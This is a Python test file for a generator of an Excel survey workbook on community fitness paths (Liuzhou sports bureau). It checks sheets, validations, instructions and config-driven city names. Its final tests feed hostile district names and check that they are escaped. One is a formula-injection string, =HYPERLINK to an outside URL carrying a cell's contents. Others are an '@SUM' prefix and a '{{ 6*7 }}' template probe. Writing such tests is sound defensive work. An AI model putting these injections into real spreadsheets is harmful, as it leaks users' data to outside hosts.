"""Tests for geo.intake.template: the survey workbook opens, and carries the lists, checks and instructions."""

from __future__ import annotations

import datetime as dt
import io
import re

import geopandas as gpd
import openpyxl
import pandas as pd
import pytest
import shapely
from shapely.geometry import box

from geo.cli import main
from geo.config import BOUNDARIES_PATH
from geo.data.cells import xlsx_text
from geo.i18n import column_label
from geo.intake.template import (
    INSTRUCTIONS_SHEET,
    LAST_ROW,
    SURVEY_COLUMNS,
    SURVEY_SHEET,
    survey_headers,
    survey_template_bytes,
    write_survey_template,
)
from tests import hostile
from tests.helpers import workbook_cells

CHINESE = re.compile("[\u4e00-\u9fff]")

ZH_HEADERS = [
    "小区编号",
    "名称",
    "区县",
    "经度",
    "纬度",
    "坐标系",
    "占地面积（平方米）",
    "建成年份",
    "户数",
    "人口",
    "60岁以上占比",
    "14岁以下占比",
    "可用空地（平方米）",
    "公共空间用于停车",
    "规划有体育用地",
    "已有健身路径（套）",
    "申请日期",
    "备注",
]


@pytest.fixture(scope="module")
def districts() -> gpd.GeoDataFrame:
    return gpd.read_file(BOUNDARIES_PATH)


@pytest.fixture(scope="module")
def workbook(districts, tmp_path_factory):
    path = tmp_path_factory.mktemp("template") / "survey.xlsx"
    assert write_survey_template(path, districts) == path
    return openpyxl.load_workbook(path)


def validations(sheet) -> dict[str, object]:
    """Column letter → the data validation covering rows 2..LAST_ROW of that column."""
    found = {}
    for validation in sheet.data_validations.dataValidation:
        for cell_range in validation.sqref.ranges:
            assert (cell_range.min_row, cell_range.max_row) == (2, LAST_ROW)
            assert cell_range.min_col == cell_range.max_col
            found[openpyxl.utils.get_column_letter(cell_range.min_col)] = validation
    return found


def letter(column: str) -> str:
    position = [c.name for c in SURVEY_COLUMNS].index(column) + 1
    return openpyxl.utils.get_column_letter(position)


def test_sheets_and_header(workbook):
    assert workbook.sheetnames == ["小区调查", "填写说明", "公共场地", "_lists"]
    assert [s.sheet_state for s in workbook.worksheets] == ["visible", "visible", "visible", "hidden"]
    survey = workbook["小区调查"]
    assert [c.value for c in survey[1]] == ZH_HEADERS == survey_headers("zh")
    assert all(cell.font.bold for cell in survey[1])
    assert survey.freeze_panes == "C2"
    assert survey.max_row == 1  # no example or data row an office could send back by mistake


def test_headers_come_from_i18n_where_defined():
    for column, header in zip(SURVEY_COLUMNS, survey_headers("zh")):
        if column_label(column.name, "zh") != column.name:
            assert header == column_label(column.name, "zh")
    for column, header in zip(SURVEY_COLUMNS, survey_headers("en")):
        if column_label(column.name, "en") != column.name:
            assert header == column_label(column.name, "en")


def test_district_list_is_on_the_hidden_sheet(workbook, districts):
    lists = workbook["_lists"]
    names = [lists.cell(row, 1).value for row in range(2, 12)]
    assert names == districts.sort_values("district_code")["district_name"].tolist()
    assert lists.cell(12, 1).value is None
    district = validations(workbook["小区调查"])[letter("district_name")]
    assert district.type == "list"
    assert district.formula1 == "'_lists'!$A$2:$A$11"


def test_lists_and_checks(workbook):
    found = validations(workbook["小区调查"])
    for column in ("public_space_used_for_parking", "sports_land_planned"):
        assert (found[letter(column)].type, found[letter(column)].formula1) == ("list", '"是,否"')
    assert found[letter("crs")].formula1 == '"WGS84,GCJ-02,BD-09"'
    year = found[letter("built_year")]
    assert (year.type, year.operator, year.formula1, year.formula2) == (
        "whole",
        "between",
        "1900",
        str(dt.date.today().year),
    )
    for column in ("share_60plus", "share_under14"):
        share = found[letter(column)]
        assert (share.type, share.operator, share.formula1, share.formula2) == ("decimal", "between", "0", "1")
    for column in ("households", "population", "existing_sets"):
        count = found[letter(column)]
        assert (count.type, count.operator, count.formula1) == ("whole", "greaterThanOrEqual", "0")
    for column in ("land_area_m2", "open_space_m2"):
        assert (found[letter(column)].type, found[letter(column)].formula1) == ("decimal", "0")
    assert found[letter("application_date")].type == "date"
    assert (found[letter("longitude")].formula1, found[letter("longitude")].formula2) == ("73", "136")
    # name, ID and remarks are free text
    assert {letter("community_id"), letter("name"), letter("remarks")}.isdisjoint(found)
    for validation in found.values():
        assert validation.allow_blank and validation.showErrorMessage
        assert CHINESE.search(validation.error), validation.error
        # Excel refuses a workbook whose messages exceed these lengths
        assert len(validation.error) <= 255 and len(validation.prompt or "") <= 255
        assert len(validation.errorTitle) <= 32 and len(validation.promptTitle or "") <= 32


def test_column_formats_and_widths(workbook):
    survey = workbook["小区调查"]
    assert survey.column_dimensions[letter("application_date")].number_format == "yyyy-mm-dd"
    assert survey.column_dimensions[letter("community_id")].number_format == "@"
    # "占地面积（平方米）" is 9 Chinese characters: 18 wide, plus a margin
    assert survey.column_dimensions[letter("land_area_m2")].width >= 18
    assert survey.column_dimensions[letter("name")].width >= 20


def test_instructions(workbook, districts):
    sheet = workbook["填写说明"]
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    text = "\n".join(str(c.value) for c in cells)
    for phrase in ("市体育局群众体育科", "GCJ-02", "BD-09", "WGS84", "高德", "百度", "天地图", "必填"):
        assert phrase in text, phrase
    first_column = [sheet.cell(row, 1).value for row in range(1, sheet.max_row + 1)]
    table = first_column.index("列名") + 1  # one line per column under the table's header
    assert first_column[table : table + len(ZH_HEADERS)] == ZH_HEADERS
    rows = range(table + 1, table + 1 + len(ZH_HEADERS))
    assert [sheet.cell(row, 4).value for row in rows][:3] == ["经纬度与小区编号二选一", "必填", "必填"]
    assert all(sheet.cell(row, 2).value for row in rows)  # every column has a meaning
    header_rows = [
        row for row in range(1, sheet.max_row + 1) if [sheet.cell(row, col).value for col in range(1, 19)] == ZH_HEADERS
    ]
    assert len(header_rows) == 1
    example = [sheet.cell(header_rows[0] + 1, col).value for col in range(1, 19)]
    assert example[1].startswith("示例")
    assert example[2] == "城中区"
    assert isinstance(example[16], dt.datetime)
    point = shapely.Point(example[3], example[4])
    assert districts.set_index("district_name").geometry["城中区"].contains(point)


def test_english(districts):
    workbook = openpyxl.load_workbook(io.BytesIO(survey_template_bytes(districts, lang="en")))
    assert workbook.sheetnames == ["Community survey", "Instructions", "Public sites", "_lists"]
    survey = workbook["Community survey"]
    headers = [c.value for c in survey[1]]
    assert headers == survey_headers("en")
    assert headers[:5] == ["Community ID", "Name", "District", "Longitude", "Latitude"]
    assert headers[-2:] == ["Application date", "Remarks"]
    found = validations(survey)
    assert found[letter("sports_land_planned")].formula1 == '"Yes,No"'
    assert "Liuzhou" in found[letter("longitude")].error
    assert workbook["_lists"].cell(2, 1).value == "城中区"  # district names stay as the data spell them


def test_bytes_equal_a_file(districts, tmp_path):
    content = survey_template_bytes(districts)
    assert content[:2] == b"PK"
    path = write_survey_template(tmp_path / "t.xlsx", districts)
    assert openpyxl.load_workbook(path).sheetnames == openpyxl.load_workbook(io.BytesIO(content)).sheetnames


def test_a_long_district_list_uses_the_range_not_an_inline_list():
    names = [f"第{i}个很长名字的自治县" for i in range(40)]  # far beyond Excel's 255-character inline limit
    frame = pd.DataFrame({"district_code": [f"45{i:04d}" for i in range(40)], "district_name": names})
    workbook = openpyxl.load_workbook(io.BytesIO(survey_template_bytes(frame)))
    assert validations(workbook["小区调查"])[letter("district_name")].formula1 == "'_lists'!$A$2:$A$41"
    assert [workbook["_lists"].cell(r, 1).value for r in range(2, 42)] == names
    # without a geometry, the example falls back to a point in central Liuzhou
    sheet = workbook["填写说明"]
    assert any(c.value == names[0] for row in sheet.iter_rows() for c in row)


def test_districts_in_another_frame_shape(tmp_path):
    districts = gpd.GeoDataFrame(
        {"district_code": ["2", "1", "1"], "district_name": ["乙区", "甲区", "甲区"]},
        geometry=[box(0, 0, 1, 1)] * 3,
        crs="EPSG:4326",
    )
    workbook = openpyxl.load_workbook(write_survey_template(tmp_path / "t.xlsx", districts))
    lists = workbook["_lists"]
    assert [lists.cell(r, 1).value for r in range(2, 5)] == ["甲区", "乙区", None]


@pytest.mark.parametrize("bad", [pd.DataFrame({"code": ["450202"]}), pd.DataFrame({"district_name": [None]})])
def test_bad_districts_are_refused(bad):
    with pytest.raises(ValueError, match="district"):
        survey_template_bytes(bad)


def test_bad_language_and_folder(districts, tmp_path):
    with pytest.raises(ValueError, match="unsupported language"):
        survey_template_bytes(districts, lang="fr")
    with pytest.raises(FileNotFoundError):
        write_survey_template(tmp_path / "missing" / "t.xlsx", districts)


# --------------------------------------------------------------------------- hostile district names


def hostile_districts() -> gpd.GeoDataFrame:
    """Liuzhou's districts renamed with hostile strings, and a district for each other hostile string."""
    names = hostile.ALL
    return gpd.GeoDataFrame(
        {"district_code": [f"45{i:04d}" for i in range(len(names))], "district_name": names},
        geometry=[box(109 + i / 100, 24, 109.01 + i / 100, 24.01) for i in range(len(names))],
        crs="EPSG:4326",
    )


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_hostile_district_names_are_text_in_list_and_example(lang, tmp_path, capsys):
    districts = hostile_districts()
    # The names as the drop-down offers them: stripped, empty and repeated ones dropped.
    offered = list(dict.fromkeys(name.strip() for name in hostile.ALL if name.strip()))
    expected = [xlsx_text(name) for name in offered]
    assert "'=HYPERLINK(\"" + hostile.OUTSIDE_URL + '?d="&C2,"详情")' in expected and "'@SUM(9)" in expected

    boundaries = tmp_path / "districts.geojson"
    districts.to_file(boundaries, driver="GeoJSON")
    out = tmp_path / "survey.xlsx"
    assert main(["template", "--out", str(out), "--lang", lang, "--boundaries", str(boundaries)]) == 0
    capsys.readouterr()
    for content in (survey_template_bytes(districts, lang=lang), out.read_bytes()):
        sheets = workbook_cells(content)  # fails on any formula or error cell
        assert [row[0] for row in sheets["_lists"][1 : len(expected) + 1]] == expected
        assert all(row[0] is None for row in sheets["_lists"][len(expected) + 1 :])
        example = [row for row in sheets[INSTRUCTIONS_SHEET[lang]] if row[:2] == survey_headers(lang)[:2]]
        assert len(example) == 1
        instructions = sheets[INSTRUCTIONS_SHEET[lang]]
        assert instructions[instructions.index(example[0]) + 1][2] == expected[0] == "{{ 6*7 }}"
        book = openpyxl.load_workbook(io.BytesIO(content))
        district = validations(book[SURVEY_SHEET[lang]])[letter("district_name")]
        assert district.formula1 == f"'_lists'!$A$2:$A${len(expected) + 1}"  # a range: no name in a formula


def test_city_and_programmes_come_from_the_config(districts):
    """Another city's config.toml names its own city and programmes; neither is written in code."""
    from dataclasses import replace

    from geo.config import Program, load_config

    other = replace(
        load_config(),
        city_name_zh="桂林市",
        city_name_en="Guilin",
        bureau_name_zh="桂林市体育局",
        bureau_name_en="Guilin Sports Bureau",
        programs=(Program("a", "甲项目", "Fund A", 100_000), Program("b", "乙项目", "Fund B", 200_000)),
    )
    for lang, expected in (
        ("zh", ["桂林市小区健身路径调查表", "安排甲项目和乙项目资金"]),
        ("en", ["Guilin community fitness-path survey", "allocate the funds of Fund A and Fund B"]),
    ):
        workbook = openpyxl.load_workbook(io.BytesIO(survey_template_bytes(districts, lang=lang, config=other)))
        text = "\n".join(str(c.value) for row in workbook.worksheets[1].iter_rows() for c in row if c.value is not None)
        for phrase in expected:
            assert phrase in text, phrase
        error = validations(workbook.worksheets[0])[letter("longitude")].error
        assert ("（桂林约为 109）" if lang == "zh" else "(Guilin is about 109)") in error
        assert "柳州" not in text + error and "Liuzhou" not in text + error and "市本级" not in text
